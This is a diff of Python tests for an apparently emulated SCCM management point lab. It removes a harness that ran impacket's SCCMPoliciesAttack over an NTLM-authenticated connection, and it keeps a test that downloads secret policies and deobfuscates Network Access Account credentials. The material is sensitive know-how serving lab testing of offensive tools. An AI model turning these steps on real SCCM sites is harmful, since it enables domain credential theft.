@@ -1,32 +1,20 @@
-"""Interoperability.
-
-1. An independent client written only from research/configmgr-wire.md §2's byte layout, the way
+"""Interoperability: an independent client written only from research/configmgr-wire.md §2's byte layout, the way
    sccmwtf/SCCMSecrets are written (httpx + cryptography, hand-built bytes; it does NOT import the
    project's codec): registration, confirmation, policy assignment, secret policy download, CMS
    decryption and NAA blob deobfuscation.
-2. An unmodified third-party client from PyPI: impacket's SCCMPoliciesAttack (ntlmrelayx
-   `--sccm-policies`, a port of SCCMSecrets). In ntlmrelayx it gets an HTTP connection the relay has
-   authenticated; here the harness plays the relay by doing the NTLM exchange with a lab computer
-   account on the same connection.
+
+impacket's ntlmrelayx `--sccm-policies`, run unmodified, is tests/test_mp_ntlmrelayx.py.
 """
 
 from __future__ import annotations
 
-import base64
 import hashlib
-import http.client
-import json
 import re
-import ssl
 import zlib
 from datetime import UTC, datetime, timedelta
-from pathlib import Path
-from types import SimpleNamespace
-from typing import Any
 
 import httpx
 import pytest
-import spnego
 from cryptography import x509
 from cryptography.hazmat.decrepit.ciphers.algorithms import TripleDES
 from cryptography.hazmat.primitives import hashes, serialization
@@ -230,57 +218,3 @@ def test_independent_client(mp: Lab) -> None:
     naa = mp.config.site.network_access_account
     assert deobfuscate(found["NetworkAccessUsername"] or "") == naa.username
     assert deobfuscate(found["NetworkAccessPassword"] or "") == naa.password
-
-
-# -- impacket's SCCMPoliciesAttack, unmodified --------------------------------------------------------
-
-class RelayedConnection(http.client.HTTPConnection):
-    """What ntlmrelayx hands the attack: a connection on which NTLM authentication is done. Requests to
-    the Windows-auth vdir are authenticated with the relayed account on the same connection."""
-
-    def __init__(self, host: str, port: int, user: str, password: str) -> None:
-        super().__init__(host, port, timeout=30)
-        self.user, self.password = user, password
-
-    def request(self, method: str, url: str, body: Any = None, headers: Any = None, **kw: Any) -> None:  # type: ignore[override]
-        headers = dict(headers or {})
-        if "windowsauth" in url.lower():
-            ctx = spnego.client(self.user, self.password, hostname="mp", service="HTTP", protocol="ntlm")
-            leg = {k: v for k, v in headers.items() if k.lower() != "connection"}
-            negotiate = "NTLM " + base64.b64encode(ctx.step() or b"").decode()
-            super().request(method, url, body, {**leg, "Authorization": negotiate})
-            challenge = self.getresponse()
-            challenge.read()
-            token = ctx.step(base64.b64decode(challenge.getheader("WWW-Authenticate", "").split(" ", 1)[1]))
-            headers["Authorization"] = "NTLM " + base64.b64encode(token or b"").decode()
-        super().request(method, url, body, headers, **kw)
-
-
-def test_impacket_sccm_policies_attack_unmodified(mp: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    secure = ssl.create_default_context
-    from impacket.examples.ntlmrelayx.attacks.httpattacks import sccmpoliciesattack as attack_module
-
-    # importing impacket.examples replaces ssl.create_default_context process-wide with one that verifies
-    # nothing; the attack talks plain HTTP, so put the real one back for every test after this one
-    ssl.create_default_context = secure
-
-    monkeypatch.chdir(tmp_path)
-    computer = next(a for a in mp.config.active_directory.accounts if a.name.endswith("$"))
-    attack = attack_module.SCCMPoliciesAttack()
-    attack.client = RelayedConnection("127.0.0.1", mp.config.ports.management_point_http,
-                                      f"CORP\\{computer.name}", computer.password)
-    attack.config = SimpleNamespace(SCCMPoliciesClientname=None, SCCMPoliciesSleep=0)
-    attack.username = computer.name
-    attack._run()
-    loot = next(tmp_path.glob("127.0.0.1_*_sccm_policies_loot"))
-    policies = json.loads((loot / "policies.json").read_text())
-    naa_ids = [pid for pid, p in policies.items() if p["PolicyCategory"] == "NAAConfig"]
-    assert naa_ids and "SECRET" in policies[naa_ids[0]]["PolicyFlags"]
-    blobs = {f.name.split("-", 1)[1]: f.read_text() for f in (loot / naa_ids[0]).glob("secretBlob_*")}
-    naa = mp.config.site.network_access_account
-    assert naa.username in blobs["NetworkAccessUsername.txt"]
-    assert naa.password in blobs["NetworkAccessPassword.txt"]
-    guid = (loot / "device" / "guid.txt").read_text().strip()
-    with lab_client(mp) as c:
-        row = c.get(f"{mp.url('management-point')}/_lab/clients/GUID:{guid}").json()
-    assert row["auth_kind"] == "domain" and row["domain_account"] == f"CORP\\{computer.name}"
